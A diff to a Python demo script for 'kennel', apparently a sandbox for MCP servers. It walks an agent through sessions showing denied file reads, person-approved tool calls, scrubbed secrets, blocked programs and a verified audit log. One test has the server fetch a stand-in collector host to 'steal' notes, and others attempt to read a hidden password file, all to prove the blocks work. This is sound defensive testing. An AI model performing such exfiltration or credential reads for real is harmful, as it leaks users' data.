@@ -1,23 +1,43 @@
 #!/usr/bin/env python3
-"""make demo: an agent's session with two real servers on a leash, shown line by line.
+"""make demo: an agent's session with two real servers in their cells, shown line by line.
 
 Runs as an ordinary user where it can: started as root it makes one for itself
 and takes it away again at the end.
 """
+import fcntl
 import json
 import os
+import pty
 import socketserver
+import struct
 import subprocess
 import sys
+import termios
+import textwrap
 import threading
 
 HERE = os.path.dirname(os.path.abspath(__file__))
 sys.dont_write_bytecode = True
 
 
+WIDTH = 80
+
+
 def show(mark, text):
+    """Text of a program after its mark, in lines of a terminal of 80 columns."""
     for line in str(text).rstrip("\n").split("\n"):
-        print("  %s %s" % (mark, line[:150]), flush=True)
+        first = True
+        while first or line:
+            room = WIDTH - 3 - len(mark)
+            cut = room if len(line) <= room else max(line.rfind(" ", 1, room + 1), 0) or room
+            print("  %s %s" % (mark if first else " " * len(mark), line[:cut]), flush=True)
+            line, first = line[cut:].lstrip(" "), False
+
+
+def say(text):
+    """Why the next step is shown."""
+    for line in textwrap.wrap(text, WIDTH):
+        print(line, flush=True)
 
 
 def title(text):
@@ -66,29 +86,62 @@ def short(text):
     return text.replace(kit.MODULES, "$MODULES").replace(kit.TMP, "$DEMO")
 
 
-def ask(s, method, params, what=None):
-    show("agent asks  >", short(what) if what else "%s %s" % (method, json.dumps(params) if params else ""))
-    m = s.request(method, params)
+def answer(m):
+    """Shows what the agent gets."""
     if "error" in m:
-        show("comes back  <", "error %d: %s" % (m["error"]["code"], m["error"]["message"]))
+        show("agent <", "error %d: %s" % (m["error"]["code"], short(m["error"]["message"])))
         return m
     r = m["result"]
     if "tools" in r:
-        show("comes back  <", "%d tools: %s" % (len(r["tools"]), " ".join(t["name"] for t in r["tools"])))
-    elif "content" in r:
-        for c in r["content"]:
-            if c["type"] == "text":
-                show("comes back  <", short(c["text"]))
-            elif c["type"] == "resource_link":
-                show("comes back  <", "a link to %s, %s" % (c["uri"], c["mimeType"]))
-    else:
-        show("comes back  <", json.dumps(r)[:300])
+        show("agent <", "%d tools: %s" % (len(r["tools"]), " ".join(t["name"] for t in r["tools"])))
+    for c in r.get("content", []):
+        if c["type"] == "text":
+            show("agent <", " ".join(short(c["text"]).split()))
+        elif c["type"] == "resource_link":
+            show("agent <", "a link to %s, %s" % (c["uri"], c["mimeType"]))
     return m
 
 
 def call(s, tool, **arguments):
-    return ask(s, "tools/call", {"name": tool, "arguments": arguments},
-               "%s %s" % (tool, json.dumps(arguments)))
+    show("agent >", short("%s %s" % (tool, json.dumps(arguments))))
+    return answer(s.request("tools/call", {"name": tool, "arguments": arguments}))
+
+
+def call_later(s, tool, **arguments):
+    """Sends the call and does not wait; its id."""
+    s.n += 1
+    show("agent >", short("%s %s" % (tool, json.dumps(arguments))))
+    s.send({"jsonrpc": "2.0", "id": s.n, "method": "tools/call", "params": {"name": tool, "arguments": arguments}})
+    return s.n
+
+
+def command(*words, stdin=b""):
+    """Runs kennel on a terminal of 78 columns, as a person would; its status and text."""
+    import kit
+    show("$", short("kennel " + " ".join(words)))
+    master, slave = pty.openpty()
+    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 24, WIDTH - 2, 0, 0))
+    p = subprocess.Popen([kit.KENNEL] + list(words), stdin=subprocess.PIPE, stdout=slave, stderr=subprocess.STDOUT,
+                         env=kit.environment({"NO_COLOR": "1", "KENNEL_PAGER": "", "PAGER": "cat"}))
+    os.close(slave)
+    p.stdin.write(stdin)
+    p.stdin.close()
+    text = b""
+    try:
+        while True:
+            part = os.read(master, 65536)
+            if not part:
+                break
+            text += part
+    except OSError:  # the last process closed the terminal
+        pass
+    os.close(master)
+    p.wait()
+    text = text.decode(errors="replace").replace("\r\n", "\n")
+    for line in short(text).splitlines():
+        for i in range(0, len(line) or 1, WIDTH - 2):
+            print("  " + line[i:i + WIDTH - 2], flush=True)
+    return p.returncode, text
 
 
 class Host(socketserver.StreamRequestHandler):
@@ -108,149 +161,189 @@ def host():
     return server.server_address[1]
 
 
-def policy_text(kit, work, port):
+def policies(kit, work, port):
+    """What each server may do; everything else is denied."""
     everything = kit.MODULES + "/@modelcontextprotocol/server-everything/dist/index.js"
     files = kit.MODULES + "/@modelcontextprotocol/server-filesystem/dist/index.js"
     w = kit.words
-    user = '    user "%d"\n' % kit.UID if os.geteuid() == 0 else ""
-    return """# demo.kennel: what the two servers may do; everything else is denied.
-server files {
-    about "files of one project"
-    run   %s
+    user = '    user  "%d"\n' % kit.UID if os.geteuid() == 0 else ""
+    return {"files": """server files {
+    run   %s \\
+          %s \\
+          %s
     read  %s
 %s    write %s
     hide  %s
-    tool  allow read_text_file write_file list_directory list_allowed_directories
+    tool  allow read_text_file write_file list_directory
+    tool  ask move_file because "moves are reviewed"
 }
-
-server everything {
-    about "the reference server, with a token it must not repeat"
-    run    %s
+""" % (w(kit.NODE), w(files), w(work), w(kit.MODULES), user, w(work), w(work + "/private")),
+            "everything": """server everything {
+    run    %s \\
+           %s
     read   %s
-    secret API_TOKEN from env DEMO_TOKEN
-    tool   allow echo get-sum get-env gzip-file-as-resource
+%s    secret API_TOKEN from env DEMO_TOKEN
+    tool   allow get-env gzip-file-as-resource
     net    allow localhost:%d to loopback plain
-    sampling allow
 }
-
-server shell {
-    about "a shell that may run one command"
+""" % (w(kit.NODE), w(everything), w(kit.MODULES), user, port),
+            "shell": """server shell {
     run   /bin/sh **
     exec  allow /bin/echo **
     read  /usr/bin
-}
-""" % (w(kit.NODE, files, work), w(kit.MODULES), user, w(work), w(work + "/.env"),
-       w(kit.NODE, everything), w(kit.MODULES), port)
+%s}
+""" % user}
+
+
+class Demo:
+    """The session, and what of it was not as expected."""
+
+    def __init__(self, kit):
+        self.kit = kit
+        self.failed = []
+        self.work = kit.TMP + "/project"
+        self.policy = kit.HOME + "/policies/%s.kennel"
+
+    def expect(self, ok, what):
+        if not ok:
+            self.failed.append(what)
+            show("!!", "NOT AS EXPECTED: " + what)
+
+    def prepare(self, port):
+        os.makedirs(self.work + "/private", mode=0o755)
+        os.makedirs(self.kit.HOME + "/policies", mode=0o700, exist_ok=True)
+        for name, text in (("notes.txt", "Notes of the project.\n"), ("private/password.txt", "hunter2\n")):
+            with open(self.work + "/" + name, "w") as f:
+                f.write(text)
+        if os.geteuid() == 0:
+            for path in ("", "/notes.txt", "/private", "/private/password.txt"):
+                os.chown(self.work + path, self.kit.UID, -1)
+        for name, text in policies(self.kit, self.work, port).items():
+            with open(self.policy % name, "w") as f:
+                f.write(text)
+
+    def session(self, name, env=None):
+        s = self.kit.Mcp([self.kit.KENNEL, "run", name], env=env)
+        show("agent >", "starts `kennel run %s`" % name)
+        m = s.initialize()
+        self.expect("result" in m, "initialize of " + name)
+        if "result" in m:
+            show("agent <", "%s %s" % tuple(m["result"]["serverInfo"][k] for k in ("name", "version")))
+        return s
+
+    def files(self):
+        title("1. A server gets what its policy says")
+        for line in open(self.policy % "files"):
+            show("|", short(line.rstrip()))
+        say("The agent's configuration says `kennel run files`. It sees the granted tools:")
+        s = self.session("files")
+        answer(s.request("tools/list", {}))
+        m = call(s, "read_text_file", path=self.work + "/notes.txt")
+        self.expect("Notes" in json.dumps(m), "reading a granted file")
+        say("A directory that the policy hides, and a tool that it does not name:")
+        m = call(s, "read_text_file", path=self.work + "/private/password.txt")
+        self.expect("hunter2" not in json.dumps(m), "the hidden file stays hidden")
+        m = call(s, "edit_file", path=self.work + "/notes.txt", edits=[])
+        self.expect("error" in m or m["result"].get("isError"), "an ungranted tool is refused")
+        return s
+
+    def waiting(self):
+        """The ids of what waits for a person."""
+        r = self.kit.run([self.kit.KENNEL, "approve", "list", "--json"])
+        return [json.loads(line)["id"] for line in r.stdout.splitlines()]
+
+    def asks(self, s):
+        title("2. A person decides where the policy says `ask`")
+        target = {"source": self.work + "/notes.txt", "destination": self.work + "/old.txt"}
+        n = call_later(s, "move_file", **target)
+        self.expect(self.kit.wait_for(self.waiting, 30), "the call waits for a person")
+        say("The server knows nothing of this call yet. In another terminal:")
+        command("approve", "list")
+        status, _ = command("approve", "allow", (self.waiting() + ["none"])[0])
+        m = answer(s.wait(n, 30))
+        self.expect(status == 0 and os.path.exists(target["destination"]) and not m["result"].get("isError"),
+                    "an approved call is made")
+        n = call_later(s, "move_file", source=target["destination"], destination=self.work + "/new.txt")
+        self.expect(self.kit.wait_for(self.waiting, 30), "the second call waits")
+        status, _ = command("approve", "deny", (self.waiting() + ["none"])[0])
+        m = answer(s.wait(n, 30))
+        self.expect(status == 0 and os.path.exists(target["destination"]) and m["result"].get("isError"),
+                    "a denied call is not made")
+        s.close()
+
+    def secrets(self, port):
+        title("3. A secret that the server has, and cannot repeat")
+        s = self.session("everything", env={"DEMO_TOKEN": TOKEN, "OTHER_SECRET": "not for servers"})
+        say("This tool prints the server's environment. The agent's has another secret too:")
+        m = call(s, "get-env")
+        self.expect(TOKEN not in json.dumps(m) and "***" in json.dumps(m), "the secret is scrubbed")
+        self.expect("OTHER_SECRET" not in json.dumps(m), "only the granted variables arrive")
+        title("4. A host that is granted, and one that is not")
+        m = call(s, "gzip-file-as-resource", name="notes.gz", data="http://localhost:%d/notes.txt" % port)
+        self.expect("resource_link" in json.dumps(m), "a granted host is reached")
+        m = call(s, "gzip-file-as-resource", name="stolen.gz", data="http://collector.example/?notes")
+        self.expect("error" in m or m["result"].get("isError"), "another host is refused")
+        s.close()
+
+    def programs(self):
+        title("5. A program that nothing grants does not start")
+        for argv, wanted in (("/bin/echo granted", 0), ("/usr/bin/env", 126)):
+            status, _ = command("exec", "--policy", self.policy % "shell", "shell", "--", "/bin/sh", "-c", argv)
+            self.expect(status == wanted, "exec of " + argv)
+        say("Why? Any request can be tried on a policy, and the answer names the line:")
+        status, text = command("policy", "explain", self.policy % "files", "files", "read",
+                               self.work + "/private/password.txt")
+        self.expect(status == 1 and "hide" in text, "explain names the line that hides")
+
+    def log(self):
+        title("6. The log: what happened, and that nobody changed it")
+        stopped = self.kit.wait_for(lambda: sum('"stop"' in json.dumps(e) for e in self.kit.audit()) >= 4, 10)
+        self.expect(stopped, "the sessions' ends are in the log")
+        for verb, wanted in (("denials", "no grant names this file"), ("who-approved", "once")):
+            status, text = command("audit", verb)
+            self.expect(status == 0 and wanted in text, "audit %s says %s" % (verb, wanted))
+        say("Was the token used, and where? The value is read from standard input here:")
+        status, text = command("audit", "find-secret", "--stdin", stdin=TOKEN.encode())
+        self.expect(status == 0 and "API_TOKEN" in text, "find-secret finds the token's use")
+        r = self.kit.run([self.kit.KENNEL, "audit", "find-secret", "--stdin"], stdin=TOKEN + "x")
+        self.expect(b"API_TOKEN" not in r.stdout, "find-secret does not find another value")
+        status, text = command("audit", "verify")
+        self.expect(status == 0 and "intact" in text, "audit verify")
+        for folder, _, names in os.walk(self.kit.HOME):
+            for name in names:
+                self.expect(TOKEN.encode() not in self.kit.reads(folder + "/" + name), "the token is in " + name)
+        say("No file of kennel's contains the token; the demo has just looked.")
+
+
+NOW_TRY = """
+Now try:
+  sudo make install                     # kennel, its manual and completions
+  kennel doctor                         # what this machine can enforce
+  kennel init NAME -- COMMAND ...       # draft a policy for a server of yours
+  kennel list                           # the servers that have a policy
+  man 5 kennel-policy                   # the language of policies
+"""
 
 
 def inner():
     sys.path.insert(0, HERE + "/../lib")
     import kit
-    work = kit.TMP + "/project"
-    os.makedirs(work, mode=0o755)
-    os.makedirs(kit.HOME, mode=0o700, exist_ok=True)
-    for name, text in (("README.txt", "Notes of the project.\n"), (".env", "PASSWORD=hunter2\n")):
-        with open(work + "/" + name, "w") as f:
-            f.write(text)
-    policy = kit.TMP + "/demo.kennel"
-    with open(policy, "w") as f:
-        port = host()
-        f.write(policy_text(kit, work, port))
+    demo = Demo(kit)
+    port = host()
+    demo.prepare(port)
     who = "root" if os.geteuid() == 0 else "an ordinary user (uid %d)" % os.geteuid()
-    title("kennel: two real MCP servers on a leash, as %s" % who)
-    failed = []
-
-    def expect(ok, what):
-        if not ok:
-            failed.append(what)
-            show("!!", "NOT AS EXPECTED: " + what)
-
-    title("1. The policy: what is written is what is granted")
-    for line in open(policy):
-        show("|", line.rstrip().replace(kit.MODULES, "$MODULES").replace(kit.TMP, "$DEMO"))
-    r = kit.run([kit.KENNEL, "policy", "check", policy])
-    expect(r.returncode == 0, "policy check: %s" % r.stderr.decode())
-    show("$", "kennel policy check demo.kennel  ->  %d" % r.returncode)
-
-    def session(name, env=None):
-        s = kit.Mcp([kit.KENNEL, "run", name, "--policy", policy], env=env)
-        show("agent runs   ", "kennel run %s --policy demo.kennel" % name)
-        m = s.initialize()
-        show("comes back  <", json.dumps(m["result"]["serverInfo"]) if "result" in m else json.dumps(m))
-        expect("result" in m, "initialize of " + name)
-        return s
-
-    title("2. @modelcontextprotocol/server-filesystem: one folder, one hidden file")
-    s = session("files")
-    ask(s, "tools/list", {}, "tools/list   (the policy allows four)")
-    m = call(s, "read_text_file", path=work + "/README.txt")
-    expect("Notes" in json.dumps(m), "reading a granted file")
-    call(s, "write_file", path=work + "/todo.txt", content="walk the dog\n")
-    expect(os.path.exists(work + "/todo.txt"), "writing into the granted folder")
-    show("           --", "the same folder holds .env, which the policy hides:")
-    m = call(s, "read_text_file", path=work + "/.env")
-    expect("hunter2" not in json.dumps(m), "the hidden file stays hidden")
-    show("           --", "a tool that the policy does not name:")
-    m = call(s, "move_file", source=work + "/README.txt", destination=work + "/x")
-    expect("error" in m or m["result"].get("isError"), "an ungranted tool is refused")
-    s.close()
-
-    title("3. @modelcontextprotocol/server-everything: a secret it has and cannot repeat")
-    s = session("everything", env={"DEMO_TOKEN": TOKEN, "OTHER_SECRET": "not for servers"})
-    show("           --", "the agent's environment has DEMO_TOKEN and OTHER_SECRET; the tool prints the server's:")
-    m = call(s, "get-env")
-    expect(TOKEN not in json.dumps(m) and "***" in json.dumps(m), "the secret is scrubbed")
-    expect("OTHER_SECRET" not in json.dumps(m), "only the granted variables arrive")
-    call(s, "get-sum", a=2, b=40)
-
-    title("4. Network: the granted name answers, and no other name exists")
-    show("           --", "the same server fetches addresses; it needs no proxy variable:")
-    url = "http://localhost:%d/notes.txt" % port
-    m = call(s, "gzip-file-as-resource", name="notes.gz", data=url)
-    expect("resource_link" in json.dumps(m), "a granted host is reached")
-    show("           --", "a name that the policy does not grant:")
-    m = call(s, "gzip-file-as-resource", name="stolen.gz", data="http://collector.example/?notes")
-    expect("error" in m or m["result"].get("isError"), "another host is refused")
-    s.close()
-    for line in s.stderr().splitlines():
-        if "net allow" in line:
-            show("stderr       ", line)
-    r = kit.run([kit.KENNEL, "audit", "denials", "--server", "everything"])
-    show("$", "kennel audit denials --server everything")
-    for line in r.stdout.decode(errors="replace").splitlines():
-        show("comes back  <", line)
-    expect(b"net allow collector.example" in r.stdout, "the log has the line that would grant it")
-
-    title("5. Programs: what nothing grants does not start")
-    for argv in (["/bin/echo", "granted"], ["/usr/bin/env"]):
-        cmd = " ".join(argv)
-        r = kit.run([kit.KENNEL, "exec", "--policy", policy, "shell", "--", "/bin/sh", "-c", cmd])
-        show("$", "kennel exec --policy demo.kennel shell -- /bin/sh -c '%s'" % cmd)
-        show("comes back  <", (r.stdout + r.stderr).decode(errors="replace") + "status %d" % r.returncode)
-        expect((r.returncode == 0) == (argv[0] == "/bin/echo"), "exec of " + cmd)
-
-    r = kit.run([kit.KENNEL, "exec", "--policy", policy, "shell", "--", "/usr/bin/env"])
-    show("$", "kennel exec --policy demo.kennel shell -- /usr/bin/env")
-    show("comes back  <", (r.stdout + r.stderr).decode(errors="replace").replace(kit.TMP, "$DEMO") +
-         "status %d" % r.returncode)
-    expect(r.returncode == 126, "an ungranted program given to kennel exec")
-
-    title("6. The log: what happened, and that nobody changed it")
-    kit.wait_for(lambda: any('"stop"' in json.dumps(e) for e in kit.audit()), 3)
-    r = kit.run([kit.KENNEL, "audit", "log"])
-    for line in r.stdout.decode(errors="replace").splitlines():
-        show("|", line.replace(kit.TMP, "$DEMO"))
-    expect(r.returncode == 0 and r.stdout, "audit log")
-    r = kit.run([kit.KENNEL, "audit", "verify"])
-    show("$", "kennel audit verify")
-    show("comes back  <", (r.stdout + r.stderr).decode(errors="replace"))
-    expect(r.returncode == 0, "audit verify")
-    for folder, _, names in os.walk(kit.HOME):
-        for name in names:
-            expect(TOKEN.encode() not in kit.reads(folder + "/" + name), "the token is in " + name)
+    title("kennel: two real MCP servers in their cells, as %s" % who)
+    demo.asks(demo.files())
+    demo.secrets(port)
+    demo.programs()
+    demo.log()
     kit.end_all()
-    title("%s" % ("The demo did not go as expected: " + "; ".join(failed) if failed else "All as the policy says."))
-    return 1 if failed else 0
+    if demo.failed:
+        title("The demo did not go as expected: " + "; ".join(demo.failed))
+        return 1
+    title("All as the policies say.")
+    print(NOW_TRY, end="", flush=True)
+    return 0
 
 
 if __name__ == "__main__":
